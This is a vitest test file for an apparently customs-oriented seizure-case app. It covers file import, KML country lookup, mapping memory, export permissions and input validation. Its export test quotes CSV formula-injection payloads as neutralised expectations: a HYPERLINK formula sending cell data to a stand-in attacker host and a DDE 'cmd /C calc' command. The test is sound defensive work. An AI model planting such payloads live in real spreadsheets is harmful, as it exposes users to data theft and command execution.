/**
 * Imports through the data service's RPC, as the import dialog does: every case in
 * ../shared/cases/import lands in a real case doc with the expected counts; placemarks without a
 * country get it from their coordinates; a user's mapping is remembered for the next file with the
 * same headers; an unusable file changes nothing; the export neutralises formula-like cells.
 */
import fs from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import { CaseDoc } from '../../shared/docs/case-doc';
import { newCaseFields } from '../../shared/domain/case';
import type { ColumnMapping } from '../../shared/rpc/import';
import { startService, type Harness } from '../helpers/service';
import { sharedPath } from '../helpers/shared-dir';
import type { DataClient } from '../../renderer/src/data/client';
import { RpcError } from '../../renderer/src/data/rpc-error';

let h: Harness | null = null;
afterEach(() => {
  h?.close();
  h = null;
});

async function newCase(title = 'Imported'): Promise<{ c: DataClient; workspaceId: string; caseId: string; docName: string }> {
  h = startService();
  const c = h.client();
  await c.call('identity.create', { name: 'A', agency: 'Customs', role: 'investigator' });
  const ws = await c.call('workspaces.create', { name: 'W', casePrefix: 'NEST', reportingCurrency: 'USD' });
  const k = await c.call('cases.create', { workspaceId: ws.id, fields: { ...newCaseFields('2026-11-29'), title } });
  return { c, workspaceId: ws.id, caseId: k.id, docName: k.docName };
}

function file(name: string): { fileName: string; contentBase64: string } {
  return { fileName: name, contentBase64: fs.readFileSync(sharedPath('cases/import', name)).toString('base64') };
}

const expected = JSON.parse(fs.readFileSync(sharedPath('cases/import/expected.json'), 'utf8')) as { input: string; expect: { imported?: number; seizures?: number; rejected?: number; routes?: number } }[];

describe('import through RPC', () => {
  it.each(expected.map((e) => [e.input, e.expect] as const))('%s lands in the case with the expected counts', async (input, exp) => {
    const { c, workspaceId, caseId, docName } = await newCase();
    const report = await c.call('import.commit', { workspaceId, caseId, ...file(input) });
    const want = exp.imported ?? exp.seizures!;
    expect(report.imported).toBe(want);
    if (exp.rejected !== undefined) expect(report.rejectedRows).toBe(exp.rejected);
    if (exp.routes !== undefined) expect(report.routes).toBe(exp.routes);
    const r = c.openDoc(docName);
    await r.whenSynced();
    expect(new CaseDoc(r.doc).seizureCount()).toBe(want);
    expect((await c.call('cases.get', { workspaceId, caseId })).seizureCount).toBe(want);
  });

  it('gives KML placemarks without a country the country of their coordinates, flagged for review (a lookup, not a stated fact)', async () => {
    const { c, workspaceId, caseId, docName } = await newCase();
    const done = await c.call('import.commit', { workspaceId, caseId, ...file('06-placemarks.kml') });
    const r = c.openDoc(docName);
    await r.whenSynced();
    const cd = new CaseDoc(r.doc);
    expect(cd.listSeizures().map((s) => s.country)).toEqual(['KE', 'KE']);
    // The country was looked up from the point (tester finding: stored unflagged as the seizing
    // country); "Ivory cache" has no commodity data either: its label became the commodity.
    const byCommodity = new Map(cd.listSeizures().map((s) => [s.commodity, s.reviewFlags]));
    const fromLocation = { kind: 'country-from-location', country: 'KE', batch: done.batchId, at: expect.any(Number) };
    expect(byCommodity.get('rosewood logs')).toEqual([fromLocation]);
    expect(byCommodity.get('Ivory cache')).toEqual([{ kind: 'commodity-from-label', label: 'name', batch: done.batchId, at: expect.any(Number) }, fromLocation]);
    const page = await c.call('seizures.page', { workspaceId, caseId, flagged: true, limit: 10 });
    expect(page.rows.map((s) => s.commodity).sort()).toEqual(['Ivory cache', 'rosewood logs']);
    expect(cd.listRoutes()).toEqual([expect.objectContaining({ name: 'Suspected route', points: [[-3.4, 29.3], [-1.3, 36.8], [-4.05, 39.6667]] })]);
  });

  it('remembers a mapping chosen for a header row and offers it for the next such file', async () => {
    const { c, workspaceId, caseId } = await newCase();
    const first = await c.call('import.preview', { workspaceId, caseId, ...file('01-semicolon-decimal-comma.csv') });
    expect(first.mappingSource).toBe('guessed');
    const mapping: ColumnMapping = { ...first.mapping, Ware: 'commodity', Ort: 'place', Wert: 'ignore' };
    const done = await c.call('import.commit', { workspaceId, caseId, ...file('01-semicolon-decimal-comma.csv'), mapping });
    expect(done.imported).toBe(3);
    const again = await c.call('import.preview', { workspaceId, caseId, ...file('01-semicolon-decimal-comma.csv') });
    expect(again.mappingSource).toBe('remembered');
    expect(again.mapping.Wert).toBe('ignore');
  });

  it('changes nothing when the file is unusable, and says why', async () => {
    const { c, workspaceId, caseId } = await newCase();
    const err = await c
      .call('import.commit', { workspaceId, caseId, fileName: 'empty.csv', contentBase64: '' })
      .then(() => null, (e: unknown) => e);
    expect(err).toBeInstanceOf(RpcError);
    expect((err as RpcError).code).toBe('import-failed');
    expect((err as RpcError).message).toMatch(/empty\.csv: /);
    expect((await c.call('cases.get', { workspaceId, caseId })).seizureCount).toBe(0);
  });

  it('exports the case as CSV with formula-like cells neutralised', async () => {
    const { c, workspaceId, caseId } = await newCase();
    await c.call('import.commit', { workspaceId, caseId, ...file('08-formula-injection.csv') });
    const out = await c.call('export.seizuresCsv', { workspaceId, caseId });
    expect(out.fileName).toBe('NEST-2026-0001-seizures-TLP-AMBER.csv');
    expect(out.content).toContain(`"'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""open"")"`);
    expect(out.content).toContain("'+cmd|' /C calc'!A0");
    expect(out.content).toContain("'@SUM(1+1)");
    expect(out.content.split('\r\n')[0]).toBe('\uFEFFTLP:AMBER — NEST-2026-0001 seizures — share only as TLP:AMBER allows');
    expect(out.content.split('\r\n')[1]).toBe('seizure_date,date_precision,country_iso2,place,latitude,longitude,location_precision,crime_sector,commodity,taxon,quantity,unit,origin_iso2,transit_iso2,destination_iso2,seizing_agency,reported_value,reported_currency,operation,source_url,source_title,notes,export_iso2,transit_missed_iso2,transport_mode,detection_method,concealment_method,cites_appendix,review_flags');
  });
});

describe('export permissions', () => {
  it('refuses observers', async () => {
    const { c, workspaceId, caseId } = await newCase();
    // The role in the workspace doc counts (as at the relay), so the member becomes an observer there too.
    const ws = h!.service.workspace(workspaceId);
    ws.store.setLocalSettings({ ...ws.local(), role: 'observer' });
    const me = ws.workspaceDoc().getMember(ws.local().memberId)!;
    ws.workspaceDoc().upsertMember({ ...me, role: 'observer' }, { memberId: me.id });
    const err = await c.call('export.seizuresCsv', { workspaceId, caseId }).then(() => null, (e: unknown) => e);
    expect((err as RpcError).code).toBe('forbidden');
  });
});

describe('import request validation', () => {
  it('refuses content that is not base64 instead of decoding garbage', async () => {
    const { c, workspaceId, caseId } = await newCase();
    const err = await c.call('import.preview', { workspaceId, caseId, fileName: 'x.csv', contentBase64: 'not base64 at all!' }).then(() => null, (e: unknown) => e);
    expect((err as RpcError).code).toBe('invalid-params');
    expect((err as RpcError).message).toMatch(/contentBase64: must be base64/);
  });
});
